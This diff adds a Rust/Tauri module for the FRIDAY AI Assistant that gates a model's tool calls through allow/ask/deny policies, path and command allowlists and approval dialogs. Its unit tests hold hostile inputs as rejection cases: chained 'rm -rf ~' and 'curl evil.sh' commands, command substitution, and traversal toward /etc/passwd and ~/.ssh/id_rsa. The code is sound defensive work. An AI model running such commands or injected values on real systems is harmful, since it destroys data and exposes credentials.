@@ -0,0 +1,673 @@
+// FRIDAY AI Assistant - Tool Approvals
+// Mediates the tools the model asks the backend to run. The backend parks each
+// `tool_call` until it hears back (backend/core/tool_approval.py); this
+// long-polls for parked calls, applies the per-tool policy and, where the
+// policy says ask, shows a native dialog before posting the decision back.
+// The policy and remembered answers live in <app config dir>/tool_policy.json.
+
+use std::collections::{BTreeMap, HashSet};
+use std::fs;
+use std::path::{Component, PathBuf};
+use std::sync::Mutex;
+use std::time::Duration;
+
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
+use tauri::api::dialog::blocking::MessageDialogBuilder;
+use tauri::api::dialog::{MessageDialogButtons, MessageDialogKind};
+use tauri::{AppHandle, Manager, State};
+
+use crate::backend::{BackendStatus, BackendSupervisor};
+
+const POLICY_FILE: &str = "tool_policy.json";
+/// Tells the backend to wait for us before running a tool
+const APPROVAL_ENV: &str = "FRIDAY_TOOL_APPROVAL";
+const LONG_POLL_SECS: u64 = 25;
+const RETRY_INTERVAL: Duration = Duration::from_secs(1);
+/// Pause between polls while calls are still waiting on a dialog
+const POLL_BACKOFF: Duration = Duration::from_millis(300);
+const MAX_DIALOG_ARGS: usize = 1500;
+/// Tools that only read, allowed without asking by default
+const READ_ONLY_TOOLS: &[&str] = &["web_search", "weather_news", "hardware_monitor"];
+/// Argument names checked against `allowed_paths` and `allowed_commands`
+const PATH_ARGS: &[&str] = &[
+    "path",
+    "file_path",
+    "directory",
+    "source",
+    "destination",
+    "src",
+    "dst",
+    "target",
+];
+const COMMAND_ARGS: &[&str] = &["command", "cmd"];
+/// Anything that would let an allowlisted command run something else
+const SHELL_META: &[char] = &[';', '&', '|', '`', '$', '>', '<', '(', ')', '\n'];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Mode {
+    Allow,
+    #[default]
+    Ask,
+    Deny,
+}
+
+/// `allow` runs without asking as long as the call's paths and commands are
+/// within the allowlists (when set); `ask` only skips the dialog for calls
+/// that are. `deny` never runs.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ToolRule {
+    pub mode: Mode,
+    /// Absolute directories; `~` is the home dir
+    pub allowed_paths: Vec<String>,
+    /// Program names, e.g. `git`; commands with shell operators never match
+    pub allowed_commands: Vec<String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ToolPolicy {
+    /// Rule for tools without an entry in `tools`
+    pub default_mode: Mode,
+    pub tools: BTreeMap<String, ToolRule>,
+    /// Answers the user asked to keep, by project id ("" outside projects)
+    /// and then `tool` or `tool.operation`
+    pub remembered: BTreeMap<String, BTreeMap<String, bool>>,
+}
+
+impl Default for ToolPolicy {
+    fn default() -> Self {
+        let allow = ToolRule {
+            mode: Mode::Allow,
+            ..Default::default()
+        };
+        Self {
+            default_mode: Mode::Ask,
+            tools: READ_ONLY_TOOLS
+                .iter()
+                .map(|tool| (tool.to_string(), allow.clone()))
+                .collect(),
+            remembered: BTreeMap::new(),
+        }
+    }
+}
+
+/// A tool call parked by the backend, from `/api/tools/approvals/pending`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PendingCall {
+    pub call_id: String,
+    pub tool: String,
+    #[serde(default)]
+    pub arguments: Value,
+    pub project_id: Option<String>,
+    pub conversation_id: Option<String>,
+}
+
+impl PendingCall {
+    fn project(&self) -> &str {
+        self.project_id.as_deref().unwrap_or_default()
+    }
+
+    /// What a remembered answer applies to
+    fn key(&self) -> String {
+        match self.arguments["operation"].as_str() {
+            Some(operation) => format!("{}.{operation}", self.tool),
+            None => self.tool.clone(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum DecidedBy {
+    Policy,
+    Allowlist,
+    Remembered,
+    User,
+}
+
+#[derive(Debug, PartialEq)]
+enum Verdict {
+    Decided(bool, DecidedBy),
+    /// `remember` is false when the call is outside the allowlists, since a
+    /// remembered answer never applies to those
+    Ask {
+        remember: bool,
+    },
+}
+
+/// Emitted as `approval://decided`
+#[derive(Clone, Serialize)]
+struct DecisionEvent<'a> {
+    #[serde(flatten)]
+    call: &'a PendingCall,
+    approved: bool,
+    decided_by: DecidedBy,
+}
+
+impl ToolPolicy {
+    fn evaluate(&self, call: &PendingCall) -> Verdict {
+        let rule = self.tools.get(&call.tool).cloned().unwrap_or(ToolRule {
+            mode: self.default_mode,
+            ..Default::default()
+        });
+        if rule.mode == Mode::Deny {
+            return Verdict::Decided(false, DecidedBy::Policy);
+        }
+        // Outside the allowlists always asks, whatever was remembered
+        let allowlisted = rule.allowlisted(&call.arguments);
+        if allowlisted == Some(false) {
+            return Verdict::Ask { remember: false };
+        }
+        if let Some(&approved) = self
+            .remembered
+            .get(call.project())
+            .and_then(|answers| answers.get(&call.key()))
+        {
+            return Verdict::Decided(approved, DecidedBy::Remembered);
+        }
+        match (rule.mode, allowlisted) {
+            (Mode::Allow, _) => Verdict::Decided(true, DecidedBy::Policy),
+            (Mode::Ask, Some(true)) => Verdict::Decided(true, DecidedBy::Allowlist),
+            _ => Verdict::Ask { remember: true },
+        }
+    }
+}
+
+impl ToolRule {
+    /// Some(true) if every path and command argument is covered by the
+    /// allowlists, Some(false) if one is not, None if there was nothing to check
+    fn allowlisted(&self, arguments: &Value) -> Option<bool> {
+        let mut checked = false;
+        for (name, value) in arguments.as_object().into_iter().flatten() {
+            let allowed = if PATH_ARGS.contains(&name.as_str()) && !self.allowed_paths.is_empty() {
+                value
+                    .as_str()
+                    .is_some_and(|path| path_allowed(path, &self.allowed_paths))
+            } else if COMMAND_ARGS.contains(&name.as_str()) && !self.allowed_commands.is_empty() {
+                value
+                    .as_str()
+                    .is_some_and(|command| command_allowed(command, &self.allowed_commands))
+            } else {
+                continue;
+            };
+            if !allowed {
+                return Some(false);
+            }
+            checked = true;
+        }
+        checked.then_some(true)
+    }
+}
+
+fn path_allowed(path: &str, allowed: &[String]) -> bool {
+    let Some(path) = normalize(path) else {
+        return false;
+    };
+    allowed
+        .iter()
+        .filter_map(|dir| normalize(dir))
+        .any(|dir| path.starts_with(dir))
+}
+
+/// Absolute path with `~` expanded and `.`/`..` resolved lexically. Relative
+/// paths depend on the backend's working dir, so they never match.
+fn normalize(path: &str) -> Option<PathBuf> {
+    // `~user` is left alone and, being relative, never matches
+    let path = match path.strip_prefix('~') {
+        Some(rest) if rest.is_empty() || rest.starts_with(['/', '\\']) => {
+            tauri::api::path::home_dir()?.join(rest.trim_start_matches(['/', '\\']))
+        }
+        _ => PathBuf::from(path),
+    };
+    if !path.is_absolute() {
+        return None;
+    }
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            Component::CurDir => {}
+            other => normalized.push(other),
+        }
+    }
+    Some(normalized)
+}
+
+fn command_allowed(command: &str, allowed: &[String]) -> bool {
+    if command.contains(SHELL_META) {
+        return false;
+    }
+    command
+        .split_whitespace()
+        .next()
+        .is_some_and(|program| allowed.iter().any(|name| name == program))
+}
+
+#[derive(Default)]
+pub struct Approvals {
+    policy: Mutex<ToolPolicy>,
+    /// Calls being decided, so a slow dialog is not shown twice
+    in_flight: Mutex<HashSet<String>>,
+    /// One dialog at a time
+    asking: tokio::sync::Mutex<()>,
+}
+
+/// Load the policy and start answering the backend. Called once from
+/// `setup`, before the backend starts.
+pub fn start(app: &AppHandle) {
+    let policy = policy_path(app)
+        .and_then(|path| fs::read_to_string(path).ok())
+        .and_then(|json| serde_json::from_str(&json).ok())
+        .unwrap_or_default();
+    *app.state::<Approvals>().policy.lock().unwrap() = policy;
+    app.state::<BackendSupervisor>().set_env(APPROVAL_ENV, "1");
+
+    let app = app.clone();
+    tauri::async_runtime::spawn(async move {
+        loop {
+            let backend = app.state::<BackendSupervisor>().inner().clone();
+            if backend.status() != BackendStatus::Ready {
+                tokio::time::sleep(RETRY_INTERVAL).await;
+                continue;
+            }
+
+            let url = format!("{}/api/tools/approvals/pending", backend.base_url());
+            let calls = match backend
+                .client()
+                .get(&url)
+                .query(&[("wait", LONG_POLL_SECS)])
+                .send()
+                .await
+            {
+                Ok(resp) => resp.json::<Vec<PendingCall>>().await,
+                Err(_) => {
+                    tokio::time::sleep(RETRY_INTERVAL).await;
+                    continue;
+                }
+            };
+            match calls {
+                Ok(calls) if calls.is_empty() => {}
+                Ok(calls) => {
+                    let approvals = app.state::<Approvals>();
+                    for call in calls {
+                        if approvals
+                            .in_flight
+                            .lock()
+                            .unwrap()
+                            .insert(call.call_id.clone())
+                        {
+                            tauri::async_runtime::spawn(decide(app.clone(), call));
+                        }
+                    }
+                    tokio::time::sleep(POLL_BACKOFF).await;
+                }
+                Err(e) => {
+                    eprintln!("[approvals] bad response from {url}: {e}");
+                    tokio::time::sleep(RETRY_INTERVAL).await;
+                }
+            }
+        }
+    });
+}
+
+async fn decide(app: AppHandle, call: PendingCall) {
+    let approvals = app.state::<Approvals>();
+    let evaluate = || approvals.policy.lock().unwrap().evaluate(&call);
+
+    let (approved, decided_by) = match evaluate() {
+        Verdict::Decided(approved, by) => (approved, by),
+        Verdict::Ask { .. } => {
+            let _asking = approvals.asking.lock().await;
+            // An earlier dialog may have just remembered an answer for this
+            match evaluate() {
+                Verdict::Decided(approved, by) => (approved, by),
+                Verdict::Ask { remember } => {
+                    let (approved, remember) = ask(call.clone(), remember).await;
+                    if remember {
+                        if let Err(e) = remember_answer(&app, &call, approved) {
+                            eprintln!("[approvals] could not save {POLICY_FILE}: {e}");
+                        }
+                    }
+                    (approved, DecidedBy::User)
+                }
+            }
+        }
+    };
+
+    let reason = match (approved, decided_by) {
+        (_, DecidedBy::User) => "",
+        (true, _) => "allowed by tool policy",
+        (false, DecidedBy::Remembered) => "denied earlier for this project",
+        (false, _) => "denied by tool policy",
+    };
+    let backend = app.state::<BackendSupervisor>().inner().clone();
+    let url = format!(
+        "{}/api/tools/approvals/{}",
+        backend.base_url(),
+        call.call_id
+    );
+    let result = backend
+        .client()
+        .post(&url)
+        .json(&json!({ "approved": approved, "reason": reason, "decided_by": decided_by }))
+        .send()
+        .await
+        .and_then(|r| r.error_for_status());
+    // A 404 means the backend gave up waiting; the call was denied there
+    if let Err(e) = result {
+        eprintln!("[approvals] could not send decision for {}: {e}", call.tool);
+    }
+
+    let _ = app.emit_all(
+        "approval://decided",
+        DecisionEvent {
+            call: &call,
+            approved,
+            decided_by,
+        },
+    );
+    approvals.in_flight.lock().unwrap().remove(&call.call_id);
+}
+
+/// Native Allow/Deny dialog, then, if `can_remember`, whether to keep the
+/// answer for this project
+async fn ask(call: PendingCall, can_remember: bool) -> (bool, bool) {
+    tokio::task::spawn_blocking(move || {
+        let mut arguments = serde_json::to_string_pretty(&call.arguments).unwrap_or_default();
+        if arguments.len() > MAX_DIALOG_ARGS {
+            let end = (0..=MAX_DIALOG_ARGS)
+                .rev()
+                .find(|&i| arguments.is_char_boundary(i))
+                .unwrap_or(0);
+            arguments.truncate(end);
+            arguments.push_str("\n…");
+        }
+        let approved = MessageDialogBuilder::new(
+            "FRIDAY wants to use a tool",
+            format!("Tool: {}\n\nArguments:\n{arguments}", call.tool),
+        )
+        .kind(MessageDialogKind::Warning)
+        .buttons(MessageDialogButtons::OkCancelWithLabels(
+            "Allow".into(),
+            "Deny".into(),
+        ))
+        .show();
+
+        if !can_remember {
+            return (approved, false);
+        }
+
+        let scope = match &call.project_id {
+            Some(id) => format!("in project {id}"),
+            None => "outside projects".into(),
+        };
+        let remember = MessageDialogBuilder::new(
+            "Remember this choice?",
+            format!(
+                "{} {} {scope} from now on without asking?",
+                if approved { "Allow" } else { "Deny" },
+                call.key()
+            ),
+        )
+        .buttons(MessageDialogButtons::OkCancelWithLabels(
+            "Remember".into(),
+            "Just this once".into(),
+        ))
+        .show();
+        (approved, remember)
+    })
+    .await
+    .unwrap_or((false, false))
+}
+
+fn remember_answer(app: &AppHandle, call: &PendingCall, approved: bool) -> Result<(), String> {
+    let approvals = app.state::<Approvals>();
+    let mut policy = approvals.policy.lock().unwrap();
+    policy
+        .remembered
+        .entry(call.project().to_string())
+        .or_default()
+        .insert(call.key(), approved);
+    save(app, &policy)
+}
+
+fn policy_path(app: &AppHandle) -> Option<PathBuf> {
+    app.path_resolver()
+        .app_config_dir()
+        .map(|dir| dir.join(POLICY_FILE))
+}
+
+fn save(app: &AppHandle, policy: &ToolPolicy) -> Result<(), String> {
+    let path = policy_path(app).ok_or("app config directory is unavailable")?;
+    if let Some(dir) = path.parent() {
+        fs::create_dir_all(dir).map_err(|e| e.to_string())?;
+    }
+    let json = serde_json::to_string_pretty(policy).map_err(|e| e.to_string())?;
+    fs::write(path, json).map_err(|e| e.to_string())
+}
+
+#[tauri::command]
+pub fn get_tool_policy(approvals: State<'_, Approvals>) -> ToolPolicy {
+    approvals.policy.lock().unwrap().clone()
+}
+
+#[tauri::command]
+pub fn set_tool_policy(
+    app: AppHandle,
+    approvals: State<'_, Approvals>,
+    policy: ToolPolicy,
+) -> Result<(), String> {
+    save(&app, &policy)?;
+    *approvals.policy.lock().unwrap() = policy;
+    Ok(())
+}
+
+/// Drop remembered answers for one project ("" for chats outside projects),
+/// or for all of them when `project_id` is omitted
+#[tauri::command]
+pub fn forget_tool_decisions(
+    app: AppHandle,
+    approvals: State<'_, Approvals>,
+    project_id: Option<String>,
+) -> Result<(), String> {
+    let mut policy = approvals.policy.lock().unwrap();
+    match project_id {
+        Some(id) => {
+            policy.remembered.remove(&id);
+        }
+        None => policy.remembered.clear(),
+    }
+    save(&app, &policy)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn call(tool: &str, arguments: Value) -> PendingCall {
+        PendingCall {
+            call_id: "call".into(),
+            tool: tool.into(),
+            arguments,
+            project_id: Some("p1".into()),
+            conversation_id: None,
+        }
+    }
+
+    fn policy(mode: Mode, paths: &[&str], commands: &[&str]) -> ToolPolicy {
+        let rule = ToolRule {
+            mode,
+            allowed_paths: paths.iter().map(|p| p.to_string()).collect(),
+            allowed_commands: commands.iter().map(|c| c.to_string()).collect(),
+        };
+        let mut policy = ToolPolicy::default();
+        policy.tools.insert("files".into(), rule);
+        policy
+    }
+
+    fn remember(policy: &mut ToolPolicy, key: &str, approved: bool) {
+        policy
+            .remembered
+            .entry("p1".into())
+            .or_default()
+            .insert(key.into(), approved);
+    }
+
+    fn allowed(paths: &[&str]) -> Vec<String> {
+        paths.iter().map(|p| p.to_string()).collect()
+    }
+
+    #[test]
+    fn normalize_resolves_dots_and_rejects_relative_paths() {
+        assert_eq!(
+            normalize("/home/me/./docs/../notes"),
+            Some(PathBuf::from("/home/me/notes"))
+        );
+        assert_eq!(normalize("/../../etc"), Some(PathBuf::from("/etc")));
+        assert_eq!(normalize("docs/notes"), None);
+        assert_eq!(normalize("../etc"), None);
+    }
+
+    #[test]
+    fn normalize_expands_only_the_current_users_home() {
+        let home = tauri::api::path::home_dir().unwrap();
+        assert_eq!(normalize("~"), Some(home.clone()));
+        assert_eq!(normalize("~/docs"), Some(home.join("docs")));
+        assert_eq!(normalize("~root/docs"), None);
+    }
+
+    #[test]
+    fn paths_must_stay_inside_an_allowed_dir() {
+        let dirs = allowed(&["/srv/project"]);
+        assert!(path_allowed("/srv/project", &dirs));
+        assert!(path_allowed("/srv/project/src/main.rs", &dirs));
+        assert!(!path_allowed("/srv/project/../secret", &dirs));
+        assert!(!path_allowed("/srv/project/./../../etc/passwd", &dirs));
+        assert!(!path_allowed("/srv/project-old/file", &dirs));
+        assert!(!path_allowed("src/main.rs", &dirs));
+    }
+
+    #[test]
+    fn home_relative_allowlist() {
+        let dirs = allowed(&["~/work"]);
+        let home = tauri::api::path::home_dir().unwrap();
+        assert!(path_allowed("~/work/a.txt", &dirs));
+        assert!(path_allowed(
+            home.join("work/a.txt").to_str().unwrap(),
+            &dirs
+        ));
+        assert!(!path_allowed("~/work/../.ssh/id_rsa", &dirs));
+        assert!(!path_allowed("~root/work/a.txt", &dirs));
+    }
+
+    #[test]
+    fn commands_match_the_program_without_shell_operators() {
+        let programs = allowed(&["git", "ls"]);
+        assert!(command_allowed("git status", &programs));
+        assert!(command_allowed("  ls -la /tmp", &programs));
+        assert!(!command_allowed("gitk", &programs));
+        assert!(!command_allowed("rm -rf /", &programs));
+        assert!(!command_allowed("", &programs));
+        for command in [
+            "git status; rm -rf ~",
+            "git log && curl evil.sh",
+            "ls | sh",
+            "ls `whoami`",
+            "ls $(whoami)",
+            "git log > /etc/passwd",
+            "ls < /dev/zero",
+            "ls\nrm -rf ~",
+            "git status & sleep 1",
+        ] {
+            assert!(!command_allowed(command, &programs), "{command}");
+        }
+    }
+
+    #[test]
+    fn deny_beats_everything() {
+        let mut policy = policy(Mode::Deny, &["/srv"], &[]);
+        remember(&mut policy, "files", true);
+        let verdict = policy.evaluate(&call("files", json!({ "path": "/srv/a" })));
+        assert_eq!(verdict, Verdict::Decided(false, DecidedBy::Policy));
+    }
+
+    #[test]
+    fn remembered_answer_never_overrides_the_allowlist() {
+        let mut policy = policy(Mode::Ask, &["/srv"], &["git"]);
+        remember(&mut policy, "files", true);
+        for arguments in [
+            json!({ "path": "/etc/passwd" }),
+            json!({ "path": "/srv/../etc/passwd" }),
+            json!({ "command": "git status; rm -rf /" }),
+        ] {
+            let verdict = policy.evaluate(&call("files", arguments));
+            assert_eq!(verdict, Verdict::Ask { remember: false });
+        }
+
+        policy.tools.get_mut("files").unwrap().mode = Mode::Allow;
+        let verdict = policy.evaluate(&call("files", json!({ "path": "/etc/passwd" })));
+        assert_eq!(verdict, Verdict::Ask { remember: false });
+    }
+
+    #[test]
+    fn remembered_answer_applies_within_the_allowlist() {
+        let mut policy = policy(Mode::Ask, &[], &[]);
+        remember(&mut policy, "files.delete", false);
+        remember(&mut policy, "files", true);
+
+        let delete = call("files", json!({ "operation": "delete", "path": "/srv/a" }));
+        assert_eq!(
+            policy.evaluate(&delete),
+            Verdict::Decided(false, DecidedBy::Remembered)
+        );
+        let read = call("files", json!({ "path": "/srv/a" }));
+        assert_eq!(
+            policy.evaluate(&read),
+            Verdict::Decided(true, DecidedBy::Remembered)
+        );
+
+        let mut other_project = read.clone();
+        other_project.project_id = None;
+        assert_eq!(
+            policy.evaluate(&other_project),
+            Verdict::Ask { remember: true }
+        );
+    }
+
+    #[test]
+    fn modes_without_remembered_answers() {
+        let ask = policy(Mode::Ask, &["/srv"], &[]);
+        assert_eq!(
+            ask.evaluate(&call("files", json!({ "path": "/srv/a" }))),
+            Verdict::Decided(true, DecidedBy::Allowlist)
+        );
+        assert_eq!(
+            ask.evaluate(&call("files", json!({ "query": "x" }))),
+            Verdict::Ask { remember: true }
+        );
+
+        let allow = policy(Mode::Allow, &["/srv"], &[]);
+        assert_eq!(
+            allow.evaluate(&call("files", json!({ "query": "x" }))),
+            Verdict::Decided(true, DecidedBy::Policy)
+        );
+        assert_eq!(
+            allow.evaluate(&call("files", json!({ "path": "/srv/a" }))),
+            Verdict::Decided(true, DecidedBy::Policy)
+        );
+
+        assert_eq!(
+            ask.evaluate(&call("shell", json!({ "command": "ls" }))),
+            Verdict::Ask { remember: true }
+        );
+        assert_eq!(
+            ask.evaluate(&call("web_search", json!({ "query": "x" }))),
+            Verdict::Decided(true, DecidedBy::Policy)
+        );
+    }
+}